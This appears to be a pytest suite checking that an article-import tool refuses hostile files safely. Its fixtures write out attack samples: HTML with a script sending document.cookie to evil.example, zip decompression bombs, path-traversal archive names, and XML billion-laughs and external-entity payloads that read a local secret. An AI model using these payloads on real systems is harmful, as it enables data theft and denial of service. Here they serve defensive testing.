"""Hostile and broken article files: random bytes, truncations, a 50 MB text, hostile HTML, Word
archives built to hurt (path traversal, decompression bombs, XML entity bombs) and hostile REFI-QDA
codebooks.

Every refusal is one line naming the file and leaves the project as it was; a hostile file is
refused quickly and in bounded memory, and nothing is fetched from the network or read from disk
beyond the file itself.
"""

from __future__ import annotations

import io
import socket
import struct
import time
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import docx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from annotator.cli import main
from annotator.errors import ImportRefused, ValidationError
from annotator.formats.qdc import read_codebook_file
from annotator.importers.batch import import_articles
from annotator.importers.read import SUPPORTED_SUFFIXES, read_article
from annotator.project import Project
from tests.faults.helpers import FUZZ, fuzz, one_line, peak_rss_growth, snapshot

MB = 1_000_000


@pytest.fixture(scope="module")
def project_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("articles") / "p.sqlite"
    with Project.open(path) as project:
        project.add_document(text="An article already in the project.\n", title="Existing")
    return path


@pytest.fixture
def project(project_path: Path) -> Iterator[Project]:
    with Project.open(project_path) as p:
        yield p


def import_checked(project: Project, path: Path) -> str:
    """Import one file; a failure must be one line and leave the project as it was."""
    before = snapshot(project)
    report = import_articles(project, [path])
    if report.failed:
        ((name, reason),) = report.failed
        assert name == str(path)
        one_line(reason)
        assert snapshot(project) == before, "a refused file changed the project"
        return "failed"
    return "imported" if report.imported else "skipped"


def docx_bytes(*paragraphs: str) -> bytes:
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    buf = io.BytesIO()
    document.save(buf)
    return buf.getvalue()


GOOD_DOCX = docx_bytes("Harbour strike ends", "Dockworkers voted on Thursday to accept the offer.")
SAMPLES = {
    ".txt": "Harbour strike ends\nBy Anneli Varsk\n\nDockworkers 😀 voted on Thursday.\n".encode(),
    ".md": b"---\ntitle: Harbour\n---\n# Harbour strike ends\n\nDockworkers voted.\n",
    ".htm": b"<html><head><title>Strike</title></head><body><article><h1>Strike ends</h1>"
    b"<p>Dockworkers at Quellport voted on Thursday to accept the offer after eleven weeks.</p>"
    b"<p>Talks had stalled twice, the union said.</p></article></body></html>",
    ".docx": GOOD_DOCX,
}


# -- random and truncated bytes --------------------------------------------------------------------


@FUZZ
@given(content=st.binary(max_size=2000), suffix=st.sampled_from(SUPPORTED_SUFFIXES))
def test_random_bytes_of_every_type(project: Project, tmp_path: Path, content: bytes, suffix: str) -> None:
    path = tmp_path / f"random{suffix}"
    path.write_bytes(content)
    try:
        article = read_article(path)
    except ImportRefused as exc:
        assert one_line(str(exc)).startswith(path.name)
    else:
        assert article.text.strip() and "\r" not in article.text
    import_checked(project, path)


@FUZZ
@given(suffix=st.sampled_from(sorted(SAMPLES)), cut=st.floats(min_value=0.0, max_value=1.0))
def test_truncated_files_of_every_type(project: Project, tmp_path: Path, suffix: str, cut: float) -> None:
    data = SAMPLES[suffix]
    path = tmp_path / f"truncated{suffix}"
    path.write_bytes(data[: int(cut * len(data))])
    outcome = import_checked(project, path)
    if suffix == ".docx" and cut < 0.95:
        assert outcome == "failed"  # the zip directory is at the end


@fuzz(20)
@given(position=st.floats(min_value=0.0, max_value=1.0, exclude_max=True), byte=st.integers(0, 255))
def test_a_docx_with_one_byte_changed(project: Project, tmp_path: Path, position: float, byte: int) -> None:
    data = bytearray(GOOD_DOCX)
    data[int(position * len(data))] = byte
    path = tmp_path / "changed.docx"
    path.write_bytes(bytes(data))
    import_checked(project, path)


# -- a 50 MB text file ------------------------------------------------------------------------------


def test_a_50_mb_text_file_imports_and_one_byte_more_is_refused(tmp_path: Path) -> None:
    line = "The harbour strike entered its third week on Monday, café owners in Zürich said.\n"
    block = (line * 2000).encode("utf-8")
    path = tmp_path / "long.txt"
    with path.open("wb") as fh:
        written = 0
        while written + len(block) <= 50 * MB:
            fh.write(block)
            written += len(block)
        fh.write(b"x" * (50 * MB - written))
    assert path.stat().st_size == 50 * MB
    with Project.open(tmp_path / "p.sqlite") as project:
        reports: list[Any] = []
        grew, seconds = peak_rss_growth(lambda: reports.append(import_articles(project, [path])))
        assert reports[0].failed == [] and len(reports[0].imported) == 1
        assert seconds < 20
        assert grew < 12 * 50 * MB, f"importing 50 MB took {grew / MB:.0f} MB more memory"
        stored = project.document(reports[0].imported[0][1])
        assert len(stored.text) > 49 * MB // 1 - 2 * MB
        with path.open("ab") as fh:
            fh.write(b"!")
        started = time.perf_counter()
        report = import_articles(project, [path])
        assert time.perf_counter() - started < 1
        assert "too big" in report.failed[0][1]
        assert len(project.documents()) == 1


# -- hostile HTML -----------------------------------------------------------------------------------

HOSTILE_HTML = """<!DOCTYPE html>
<html lang="en"><head>
<meta charset="utf-8">
<meta http-equiv="refresh" content="0; url=https://evil.example/steal">
<base href="https://evil.example/">
<title>Council approves harbour budget</title>
<link rel="stylesheet" href="https://evil.example/style.css">
<link rel="preload" href="//evil.example/font.woff2" as="font">
<style>@import url("https://evil.example/more.css");
body { background: url(https://evil.example/bg.png) }</style>
<script src="https://evil.example/tracker.js"></script>
<script>document.write('<img src="https://evil.example/?c=' + document.cookie + '">'); INJECTED()</script>
</head><body onload="fetch('https://evil.example/onload')">
<nav><a href="https://evil.example/">Home</a></nav>
<article>
<h1>Council approves harbour budget</h1>
<p>The city council approved the harbour budget on Tuesday by nine votes to four, officials said.</p>
<img src="https://evil.example/photo.jpg" srcset="https://evil.example/a.jpg 2x" onerror="INJECTED()">
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">
<video src="https://evil.example/v.mp4" poster="https://evil.example/p.jpg"></video>
<p>Opposition members said the plan would raise port fees for small fishing boats next year.</p>
<svg><script>INJECTED()</script><image href="https://evil.example/i.svg"/></svg>
<noscript><img src="https://evil.example/pixel.gif"></noscript>
<script type="module">import("https://evil.example/m.js"); INJECTED()</script>
</article>
<form action="https://evil.example/post"><input name="q"></form>
</body></html>
"""


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    """Every attempt to look up a host or open a connection is recorded and fails."""
    attempts: list[object] = []

    def refuse(*args: object, **kwargs: object) -> Any:
        attempts.append(args[1:] if args and isinstance(args[0], socket.socket) else args)
        raise OSError("network access in a test")

    for name in ("connect", "connect_ex", "sendto"):
        monkeypatch.setattr(socket.socket, name, refuse)
    for name in ("getaddrinfo", "gethostbyname", "gethostbyname_ex", "create_connection"):
        monkeypatch.setattr(socket, name, refuse)
    return attempts


def test_html_scripts_and_remote_resources_are_neither_fetched_nor_run(
    project: Project, tmp_path: Path, no_network: list[object]
) -> None:
    path = tmp_path / "hostile.html"
    path.write_text(HOSTILE_HTML, encoding="utf-8")
    article = read_article(path)
    assert no_network == []
    assert "approved the harbour budget on Tuesday" in article.text
    assert "raise port fees" in article.text
    for trace in ("INJECTED", "document.cookie", "evil.example", "fetch(", "import(", "@import"):
        assert trace not in article.text
        assert trace not in article.title + article.author
    assert import_checked(project, path) in ("imported", "skipped")
    assert no_network == []


TAGS = st.sampled_from(
    ["p", "div", "script", "style", "iframe", "img", "a", "svg", "template", "math", "table"]
)


@st.composite
def html_pages(draw: st.DrawFn) -> str:
    """Unbalanced, deeply nested markup with scripts and remote resources sprinkled in."""
    parts = ["<html><head><title>", draw(st.text(max_size=30)), "</title></head><body>"]
    for _ in range(draw(st.integers(0, 40))):
        tag = draw(TAGS)
        attr = draw(
            st.sampled_from(["", ' src="https://evil.example/x"', " onload=\"fetch('/x')\"", ' href="//e"'])
        )
        parts.append(f"<{tag}{attr}>" * draw(st.integers(1, 30)))
        parts.append(draw(st.text(max_size=60)))
        if draw(st.booleans()):
            parts.append(f"</{tag}>")
    return "".join(parts)


@fuzz(25)
@given(page=html_pages())
def test_fuzzed_html_is_read_or_refused_without_the_network(
    project: Project, tmp_path: Path, no_network: list[object], page: str
) -> None:
    path = tmp_path / "fuzzed.html"
    path.write_text(page, encoding="utf-8", errors="surrogatepass")
    import_checked(project, path)
    assert no_network == []


# -- hostile Word archives --------------------------------------------------------------------------


def raw_zip(entries: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip archive written by hand, so its directory can say anything.

    Each entry is ``(name, deflated bytes, crc32, declared unpacked size)``.
    """
    out = io.BytesIO()
    central = io.BytesIO()
    for name, packed, crc, size in entries:
        offset = out.tell()
        raw_name = name.encode("utf-8")
        out.write(
            struct.pack(
                "<4s5H3L2H", b"PK\x03\x04", 20, 0x800, 8, 0, 0x21, crc, len(packed), size, len(raw_name), 0
            )
        )
        out.write(raw_name)
        out.write(packed)
        central.write(
            struct.pack(
                "<4s6H3L5H2L",
                b"PK\x01\x02",
                20,
                20,
                0x800,
                8,
                0,
                0x21,
                crc,
                len(packed),
                size,
                len(raw_name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
        )
        central.write(raw_name)
    start = out.tell()
    directory = central.getvalue()
    out.write(directory)
    out.write(
        struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(directory), start, 0)
    )
    return out.getvalue()


def deflate(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def docx_parts(data: bytes = GOOD_DOCX) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {name: z.read(name) for name in z.namelist()}


def docx_with(parts: dict[str, bytes], extra: list[tuple[str, bytes, int, int]] | None = None) -> bytes:
    entries = [(name, deflate(body), zlib.crc32(body), len(body)) for name, body in parts.items()]
    return raw_zip(entries + (extra or []))


def zeros_bomb(megabytes: int) -> tuple[bytes, int]:
    """Deflated zeros: ``megabytes`` MB from about a thousandth of that, and their CRC."""
    chunk = bytes(1 << 20)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)  # the same bytes for every chunk
    crc = 0
    for _ in range(megabytes):
        crc = zlib.crc32(chunk, crc)
    return block * megabytes + b"\x03\x00", crc


@pytest.fixture(scope="module")
def bombs() -> dict[str, bytes]:
    parts = docx_parts()
    packed, crc = zeros_bomb(300)
    return {
        # an honest 300 MB part that packs to 0.3 MB
        "zeros-part": docx_with(parts, [("word/media/image1.png", packed, crc, 300 << 20)]),
        # the same stream replacing the document itself
        "zeros-document": docx_with(
            {k: v for k, v in parts.items() if k != "word/document.xml"},
            [("word/document.xml", packed, crc, 300 << 20)],
        ),
        # a part whose directory entry lies: it says 1 KB, the stream holds 300 MB
        "lying-size": docx_with(parts, [("word/media/image2.png", packed, crc, 1000)]),
        # tiny entries by the ten thousand: a million would cost zipfile gigabytes for its directory
        "many-entries": raw_zip([(f"word/media/i{i}.bin", b"\x03\x00", 0, 0) for i in range(60_000)]),
    }


@pytest.mark.parametrize("kind", ["zeros-part", "zeros-document", "lying-size", "many-entries"])
def test_decompression_bombs_are_refused_quickly_in_bounded_memory(
    project: Project, tmp_path: Path, bombs: dict[str, bytes], kind: str
) -> None:
    path = tmp_path / f"{kind}.docx"
    path.write_bytes(bombs[kind])
    caught: list[ImportRefused] = []

    def read() -> None:
        with pytest.raises(ImportRefused) as info:
            read_article(path)
        caught.append(info.value)

    grew, seconds = peak_rss_growth(read)
    message = one_line(str(caught[0]))
    assert message.startswith(path.name)
    assert seconds < 2, f"{kind}: {seconds:.1f} s to refuse"
    assert grew < 80 * MB, f"{kind}: memory grew by {grew / MB:.0f} MB"
    assert import_checked(project, path) == "failed"


@pytest.mark.parametrize(
    "member",
    ["../../evil.txt", "/etc/evil.txt", "word/../../evil.txt", "C:/Windows/evil.txt", "..\\..\\evil.txt"],
)
def test_path_traversal_names_are_refused_and_nothing_is_written(
    project: Project, tmp_path: Path, member: str
) -> None:
    body = b"evil"
    work = tmp_path / "a" / "b"
    work.mkdir(parents=True)
    path = work / "traversal.docx"
    path.write_bytes(docx_with(docx_parts(), [(member, deflate(body), zlib.crc32(body), len(body))]))
    before = sorted(p for p in tmp_path.rglob("*"))
    with pytest.raises(ImportRefused, match="outside the document") as info:
        read_article(path)
    one_line(str(info.value))
    assert import_checked(project, path) == "failed"
    assert sorted(p for p in tmp_path.rglob("*")) == before
    assert not Path("/etc/evil.txt").exists()


BILLION_LAUGHS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE w:document [\n'
    + '<!ENTITY l0 "ha">\n'
    + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">\n' for i in range(1, 10))
    + ']>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Harbour strike ends &l9;</w:t></w:r></w:p>"
    "<w:p><w:r><w:t>Dockworkers voted on Thursday.</w:t></w:r></w:p></w:body></w:document>"
)


def external_entity(secret: Path) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
        f'<!DOCTYPE w:document [<!ENTITY secret SYSTEM "file://{secret}">'
        '<!ENTITY remote SYSTEM "https://evil.example/x.xml">]>\n'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>Harbour strike ends &secret; &remote;</w:t></w:r></w:p>"
        "<w:p><w:r><w:t>Dockworkers voted on Thursday.</w:t></w:r></w:p></w:body></w:document>"
    )


@pytest.mark.parametrize("attack", ["billion laughs", "external entities"])
def test_xml_entity_attacks_inside_a_docx(
    project: Project, tmp_path: Path, no_network: list[object], attack: str
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-PASSWORD", encoding="utf-8")
    xml = BILLION_LAUGHS if attack == "billion laughs" else external_entity(secret)
    parts = docx_parts()
    parts["word/document.xml"] = xml.encode("utf-8")
    path = tmp_path / "entities.docx"
    path.write_bytes(docx_with(parts))
    outcome: list[Any] = []

    def read() -> None:
        try:
            outcome.append(read_article(path))
        except ImportRefused as exc:
            outcome.append(exc)

    grew, seconds = peak_rss_growth(read)
    assert seconds < 2 and grew < 80 * MB
    assert no_network == []
    result = outcome[0]
    if isinstance(result, ImportRefused):
        one_line(str(result))
    else:
        assert "TOP-SECRET" not in result.text + result.title
        assert "haha" not in result.text  # no entity was expanded
        assert len(result.text) < 1000
    import_checked(project, path)


# -- hostile REFI-QDA codebooks (.qdc) --------------------------------------------------------------

QDC_HEAD = '<?xml version="1.0" encoding="utf-8"?>\n'
QDC_BODY = (
    '<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes>'
    '<Code guid="6f6b1f4e-1c1e-4a57-9a53-2a8f3c1d2e3f" name="Claim &x;" isCodable="true"/>'
    "</Codes></CodeBook>"
)


def hostile_qdc(kind: str, secret: Path) -> str:
    if kind == "billion laughs":
        entities = '<!ENTITY l0 "ha">' + "".join(
            f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 12)
        )
        return QDC_HEAD + f'<!DOCTYPE CodeBook [{entities}<!ENTITY x "&l11;">]>' + QDC_BODY
    if kind == "quadratic blowup":
        return (
            QDC_HEAD
            + f'<!DOCTYPE CodeBook [<!ENTITY a "{"A" * 100_000}">]>'
            + QDC_BODY.replace("&x;", "&a;" * 2000)
        )
    if kind == "external file":
        return QDC_HEAD + f'<!DOCTYPE CodeBook [<!ENTITY x SYSTEM "file://{secret}">]>' + QDC_BODY
    if kind == "external dtd":
        return QDC_HEAD + '<!DOCTYPE CodeBook SYSTEM "https://evil.example/codebook.dtd">' + QDC_BODY
    assert kind == "parameter entities"
    return (
        QDC_HEAD
        + f'<!DOCTYPE CodeBook [<!ENTITY % p SYSTEM "file://{secret}"> %p; <!ENTITY x "y">]>'
        + QDC_BODY
    )


@pytest.mark.parametrize(
    "kind", ["billion laughs", "quadratic blowup", "external file", "external dtd", "parameter entities"]
)
def test_hostile_xml_codebooks_are_refused_quickly_and_read_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], no_network: list[object], kind: str
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-PASSWORD", encoding="utf-8")
    path = tmp_path / "hostile.qdc"
    path.write_text(hostile_qdc(kind, secret), encoding="utf-8")
    caught: list[ValidationError] = []

    def read() -> None:
        with pytest.raises(ValidationError) as info:
            read_codebook_file(path)
        caught.append(info.value)

    grew, seconds = peak_rss_growth(read)
    assert seconds < 1 and grew < 50 * MB
    assert "TOP-SECRET" not in one_line(str(caught[0]))
    project_path = tmp_path / "p.sqlite"
    with Project.open(project_path) as project:
        before = snapshot(project)
    code = main(["codebook", "import", "--project", str(project_path), str(path)])
    out, err = capsys.readouterr()
    assert code == 1 and "Traceback" not in err and "TOP-SECRET" not in out + err
    assert err.count("\n") == 1
    with Project.open(project_path) as project:
        assert snapshot(project) == before
    assert no_network == []
